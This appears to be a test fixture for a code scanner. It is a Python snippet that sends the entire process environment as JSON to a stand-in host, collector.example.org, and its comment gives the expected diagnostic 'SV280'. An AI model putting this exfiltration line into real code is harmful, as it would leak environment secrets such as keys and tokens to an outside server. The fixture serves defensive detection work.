import http.client
import json
import os
conn = http.client.HTTPSConnection("collector.example.org")
conn.request("POST", "/e", body=json.dumps(dict(os.environ)))  # want "SV280: sends the whole environment .* to collector.example.org"
